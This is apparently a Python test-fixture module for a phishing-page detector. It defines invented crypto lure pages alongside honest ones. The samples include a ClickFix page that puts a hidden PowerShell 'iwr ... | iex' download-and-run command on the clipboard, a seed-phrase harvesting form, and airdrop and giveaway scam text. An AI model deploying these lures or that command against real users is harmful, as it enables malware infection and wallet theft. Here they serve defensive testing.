"""Invented pages, lures and honest ones, and the facts they become. No kit's code is among them."""

from hueandcry.decode.link import parse_link
from hueandcry.decode.page.document import read_document
from hueandcry.decode.page.read import read_page
from hueandcry.model.brand import Ownership
from hueandcry.model.page import Claim, Claims, FetchFault, Hop, Landing, Page
from hueandcry.model.source import Source
from tests.examples import Facts

WORDS = "".join(f"<input placeholder='Word {number}'>" for number in range(1, 13))
SEED = f"""<title>Wallet validation</title><h1>Import your wallet</h1>
<p>Enter your 12 words recovery phrase to continue.</p>{WORDS}<button>Validate</button>"""
WARNING = """<title>Help</title><h1>Keep safe</h1><p>Never enter your seed phrase on any website.
We will never ask for your private key.</p><form><input name=q placeholder=Search></form>"""
CLAIM = """<title>Airdrop</title><h1>Claim your tokens</h1><p>You are eligible! Limited time.</p>
<button>Connect wallet</button><div id=countdown>Ends in 00:14:59</div>
<script>setInterval(tick, 1000); ethereum.request({method: 'eth_requestAccounts'})</script>"""
SWAP = "<title>A swap</title><button>Connect wallet</button><p>Swap tokens at the best price.</p>"
CLICKFIX = """<title>Just a moment</title><h2>Verify you are human</h2><ol>
<li>Press Windows Key + R<li>Press CTRL + V<li>Press Enter</ol><script>
function go(){navigator.clipboard.writeText("powershell -w hidden -c iwr https://x.test/a | iex")}
</script>"""
DOCS = """<title>Install</title><p>Open a terminal and paste this:</p>
<pre>curl -sSf https://tool.test/install.sh | sh</pre>
<button onclick="navigator.clipboard.writeText('curl -sSf https://tool.test/install.sh | sh')">
Copy</button>"""
GIVEAWAY = """<title>Giveaway</title><p>Send 1 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhxgmtw and
get back 2 BTC instantly.</p>"""
KIT = """<title>Mint</title><script>var receiveAddress = "0x0";</script>
<script src="js/settings.js?v=2"></script><p>Connect wallet to mint</p>"""
NEWS = "<title>Uniswap ships v4 | A paper</title><p>The exchange said on Tuesday that ...</p>"
SOURCE = Source("starter", "2026-01-01", "https://uniswap.org/")


def claim(place: str, *, whole: bool = True, ordinary: bool = False) -> Claim:
    return Claim("uniswap", "Uniswap", "uniswap.org", place, "Uniswap", whole, ordinary, SOURCE)


def landing(
    url: str = "https://shop.test/", *, faults: tuple[FetchFault, ...] = (), read: bool = True,
    official: bool = False, rank: int = 0, status: int = 200, length: int = 100,
    over: tuple[Hop, ...] = (), downloads: str = "",
) -> Landing:  # fmt: skip
    hops = (*over, Hop(url, "8.8.8.8", status))
    owners = (Ownership("uniswap", "Uniswap", "uniswap.org", SOURCE),) if official else ()
    hosts = tuple(dict.fromkeys(parse_link(hop.url).host for hop in hops))
    return Landing(
        hops, url, status, "text/html", "utf-8", length, read, hosts, faults=faults, owners=owners,
        rank=rank, downloads=downloads,
    )  # fmt: skip


def page(html: str, url: str = "https://shop.test/") -> Page:
    return read_page(read_document(html), url)


def example(html: str = "", *, at: Landing | None = None, claims: tuple[Claim, ...] = ()) -> Facts:
    """Return what is known of a link that was opened; without HTML nothing was read."""
    where = at or landing(read=bool(html))
    link = parse_link(where.hops[0].url)
    facts: tuple[Landing | Page | Claims, ...] = (where, Claims(claims, link.host))
    return Facts(link, (*facts, page(html, where.final)) if html else facts)
